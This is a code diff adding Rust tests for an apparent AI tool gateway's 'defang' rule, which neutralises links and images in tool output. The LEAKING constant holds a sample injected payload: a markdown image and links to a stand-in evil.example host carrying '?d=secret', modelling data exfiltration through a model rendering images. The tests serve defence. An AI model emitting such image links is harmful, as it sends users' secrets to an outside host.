@@ -28,7 +28,12 @@ const RULES: &[&str] = &[
     r#"@mask("personal") permit(principal, action == Action::"invoke", resource in Server::"masked");"#,
     r#"@anonymise("personal") permit(principal, action == Action::"invoke", resource in Server::"nobody");"#,
     r#"@redact("personal") permit(principal, action == Action::"invoke", resource in Server::"cut");"#,
+    r#"@defang("images links") permit(principal, action == Action::"invoke", resource in Server::"tame");"#,
 ];
+
+/// What a page says that wants the model to show a picture, and what it wants clicked.
+const LEAKING: &str = "Ann ![logo](https://evil.example/p.png?d=secret) <img src='https://evil.example/i'> \
+    [more](https://evil.example/more) www.evil.example";
 
 fn house() -> Gateway {
     house_with("", &[])
@@ -47,7 +52,9 @@ fn house_with(further: &str, further_rules: &[&str]) -> Gateway {
         )
     };
     let mut servers = String::new();
-    for name in ["charts", "few", "fewer", "less", "masked", "nobody", "cut"] {
+    for name in [
+        "charts", "few", "fewer", "less", "masked", "nobody", "cut", "tame",
+    ] {
         servers += &server(name, "trusted", "read");
     }
     servers += &server("letters", "trusted", "write");
@@ -396,6 +403,52 @@ fn dropped_fields_go_and_what_has_no_fields_is_withheld() {
         answer.body
     );
     assert!(!answer.body.to_string().contains("rare"), "{}", answer.body);
+}
+
+/// What a text, structured content, an error and words by the way say leads nowhere and loads nothing; what programs
+/// need to find something stays.
+#[test]
+fn links_and_images_are_made_harmless_wherever_they_stand() {
+    let gateway = house();
+    let client = client(&gateway);
+    let harmless = "Ann ! [logo] (hxxps://evil[.]example/p.png?d=secret) &lt;img src='hxxps://evil[.]example/i'> \
+                    [more] (hxxps://evil[.]example/more) www[.]evil.example";
+    let echoed = say(&client, "tame__echo", LEAKING);
+    assert_eq!(echoed.text(), harmless, "{}", echoed.body);
+    let told = json!({"at": "/content/0/text", "did": "defang", "what": "images"});
+    assert!(changes(&echoed).contains(&told), "{}", echoed.body);
+    let record = json!({
+        "content": [{"type": "text", "text": LEAKING},
+            {"type": "resource_link", "uri": "https://files.example/1", "name": LEAKING}],
+        "structuredContent": {"said": [LEAKING], LEAKING: 1},
+        "isError": true,
+    });
+    let answer = say(&client, "tame__say", &record.to_string());
+    let said = answer.body["result"].to_string();
+    assert!(
+        !said.contains("://evil.example") && !said.contains("<img"),
+        "{said}"
+    );
+    assert!(!said.contains("![") && !said.contains("]("), "{said}");
+    assert_eq!(
+        answer.body["result"]["structuredContent"]["said"],
+        json!([harmless])
+    );
+    assert_eq!(answer.body["result"]["structuredContent"][harmless], json!(1));
+    assert_eq!(
+        answer.body["result"]["content"][1]["uri"],
+        json!("https://files.example/1")
+    );
+    let by_the_way = muttered(&client, None, "tame", LEAKING);
+    assert!(!by_the_way.is_empty());
+    for message in by_the_way {
+        assert!(!message.to_string().contains("://evil.example"), "{message}");
+    }
+    // Where no rule says so, they stay.
+    assert_eq!(
+        say(&client, "charts__echo", "https://a.example").text(),
+        "https://a.example"
+    );
 }
 
 /// Values of one call: fewer than are listed of one content.
